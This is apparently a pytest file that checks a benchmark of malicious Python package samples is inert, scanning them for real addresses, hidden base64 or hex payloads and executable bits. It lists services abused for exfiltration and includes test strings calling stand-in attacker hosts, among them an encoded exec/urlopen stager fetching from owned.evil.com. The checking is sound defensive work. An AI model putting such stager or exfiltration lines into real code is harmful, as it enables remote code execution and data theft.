"""The families of samples are what their README says: inert, reserved addresses only, well described."""

from __future__ import annotations

import ast
import base64
import binascii
import ipaddress
import json
import re
import warnings
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest

FAMILIES = Path(__file__).resolve().parents[1] / "families"
PLACES = {"import", "setup", "command-class", "user-called", "submodule", "start", "backend", "data"}
RESERVED = (".invalid", ".example", ".test", ".localhost")
RESERVED_NAMES = {"localhost", "example.com", "example.org", "example.net"}
ABUSED = [
    "discord.com",
    "discordapp.com",
    "telegram.org",
    "pastebin.com",
    "githubusercontent.com",
    "webhook.site",
    "oastify.com",
    "interact.sh",
    "transfer.sh",
    "gofile.io",
    "hastebin.com",
    "ngrok.io",
    "ngrok-free.app",
    "duckdns.org",
    "pipedream.net",
    "dropbox.com",
    "zulipchat.com",
    "paste.ee",
    "rentry.co",
    "trycloudflare.com",
    "slack.com",
    "file.io",
    "0x0.st",
    "herokuapp.com",
    "burpcollaborator.net",
    "canarytokens.com",
    "onrender.com",
    "firebaseio.com",
    "serveo.net",
    "no-ip.org",
    "catbox.moe",
    "vercel.app",
    "glitch.me",
    "requestbin.net",
    "docs.google.com",
    "bit.ly",
]
"""Services whose name is the sign; the file must call its account there fake."""
ASKED = {
    "api.ipify.org",
    "ip-api.com",
    "ipinfo.io",
    "ifconfig.me",
    "checkip.amazonaws.com",
    "icanhazip.com",
    "metadata.google.internal",
}
"""Services that tell a caller its own address or instance: nothing is sent to them."""
NETWORKS = [
    ipaddress.ip_network(text)
    for text in (
        "192.0.2.0/24",
        "198.51.100.0/24",
        "203.0.113.0/24",
        "127.0.0.0/8",
        "169.254.169.254/32",
        "10.0.0.0/24",
        "192.168.0.0/16",
    )
]
HOST = re.compile(r"(?:https?|wss?|ftp|tcp|ssl|stratum\+tcp)://(?:[\w.-]+@)?([A-Za-z0-9][A-Za-z0-9.-]*)")
IPV4 = re.compile(r"(?<![\d.\w])(\d{1,3}(?:\.\d{1,3}){3})(?![\d.\w])")
BASE64 = re.compile(r"[A-Za-z0-9+/_-]{24,}={0,2}")
HEX = re.compile(r"(?:[0-9a-f]{2}){12,}")


@cache
def variants() -> tuple[Path, ...]:
    return tuple(sorted(path.parent for path in FAMILIES.glob("*/*/expected.json")))


def _name(variant: Path) -> str:
    return variant.relative_to(FAMILIES).as_posix()


def _expected(variant: Path) -> dict[str, Any]:
    loaded = json.loads((variant / "expected.json").read_text(encoding="utf-8"))
    assert isinstance(loaded, dict)
    return loaded


def _files(variant: Path) -> list[Path]:
    return sorted(path for path in (variant / "tree").rglob("*") if path.is_file())


def _hidden(text: str) -> Iterator[str]:
    """What the base64 and hexadecimal runs of ``text`` say, where that is text."""
    for run in BASE64.findall(text):
        bare = run.rstrip("=")
        padded = bare + "=" * (-len(bare) % 4)
        try:
            data = base64.b64decode(padded, altchars=b"-_" if re.search("[-_]", bare) else None)
        except binascii.Error:
            continue
        yield from (data.decode("ascii", "ignore"), data.decode("utf-16-le", "ignore"))
    for run in HEX.findall(text):
        yield bytes.fromhex(run).decode("ascii", "ignore")


def _is_reserved(host: str, text: str) -> bool:
    host = host.lower().rstrip(".")
    if IPV4.fullmatch(host) or host in RESERVED_NAMES | ASKED or host.endswith(RESERVED):
        return True
    if any(host == service or host.endswith(f".{service}") for service in ABUSED):
        return re.search("fake|0000", text, re.IGNORECASE) is not None
    return host in {"invalid", "example"}


def _is_version(address: str) -> bool:
    """Four numbers such as ``1.2.3.0``, which no network owns or which say a version."""
    return address.endswith(".0") and int(address.partition(".")[0]) < 10


def _outside(address: str) -> bool:
    try:
        parsed = ipaddress.ip_address(address)
    except ValueError:
        return False
    return (
        not any(parsed in network for network in NETWORKS)
        and address != "0.0.0.0"  # noqa: S104 - compared, not bound to
        and not _is_version(address)
    )


def foreign(text: str) -> list[str]:
    """Addresses in ``text`` that somebody could own."""
    return [host for host in HOST.findall(text) if not _is_reserved(host, text)] + [
        address for address in IPV4.findall(text) if _outside(address)
    ]


def test_there_are_samples_and_enough_twins() -> None:
    names = [_name(variant) for variant in variants()]
    twins = [name for name in names if name.endswith("-clean")]
    assert len(names) - len(twins) >= 60
    assert len(twins) >= 30


@pytest.mark.parametrize("variant", variants(), ids=_name)
def test_described(variant: Path) -> None:
    expected = _expected(variant)
    assert set(expected) - {"parses"} == {"build", "place", "behaviour", "hides", "least", "split"}
    assert expected["build"] in {"sdist", "wheel"}
    assert expected["place"] in PLACES
    assert expected["split"] in {"dev", "heldout"}
    clean = variant.name.endswith("-clean")
    assert (expected["least"] == "allow") == clean
    assert expected["least"] in {"allow", "block", "quarantine"}
    assert bool(expected["behaviour"]) != clean
    tops = {path.relative_to(variant / "tree").parts[0] for path in _files(variant)}
    if expected["build"] == "sdist":
        assert len(tops) == 1
    else:
        assert sum(top.endswith(".dist-info") for top in tops) == 1


@pytest.mark.parametrize("variant", variants(), ids=_name)
def test_no_address_that_somebody_owns(variant: Path) -> None:
    found = {}
    for path in _files(variant):
        text = path.read_bytes().decode("utf-8", "replace")
        owned = [address for shown in (text, *_hidden(text)) for address in foreign(shown)]
        if owned:
            found[path.name] = owned
    assert found == {}


@pytest.mark.parametrize("variant", variants(), ids=_name)
def test_python_parses_and_nothing_can_be_started(variant: Path) -> None:
    parses = _expected(variant).get("parses", True)
    broken = []
    for path in _files(variant):
        assert path.stat().st_mode & 0o111 == 0, path
        assert not re.fullmatch(r"test_.*\.py|.*_test\.py|conftest\.py", path.name), path
        if path.suffix == ".py":
            try:
                with warnings.catch_warnings():
                    warnings.simplefilter("ignore", SyntaxWarning)
                    ast.parse(path.read_bytes(), path.name)
            except (SyntaxError, ValueError):
                broken.append(path.name)
    assert bool(broken) != parses, broken


@pytest.mark.parametrize(
    ("text", "owned"),
    [
        ("get('https://collect.evil.com/x')", ["collect.evil.com"]),
        ("connect(('8.8.8.8', 53))", ["8.8.8.8"]),
        ("https://discord.com/api/webhooks/1234", ["discord.com"]),
        ("https://discord.com/api/webhooks/0000/FAKE", []),
        ("http://192.0.2.1/ https://a.b.invalid/ ws://x.example:80", []),
        ("version = '4.0.0.0'", []),
    ],
)
def test_the_search_for_addresses_finds_them(text: str, owned: list[str]) -> None:
    assert foreign(text) == owned


def test_the_search_looks_into_what_is_hidden() -> None:
    secret = base64.b64encode(b"urlopen('http://owned.evil.com/stage')").decode()
    assert any(foreign(shown) == ["owned.evil.com"] for shown in _hidden(f"exec({secret!r})"))
    assert any("owned" in shown for shown in _hidden(b"http://owned.evil.com".hex()))
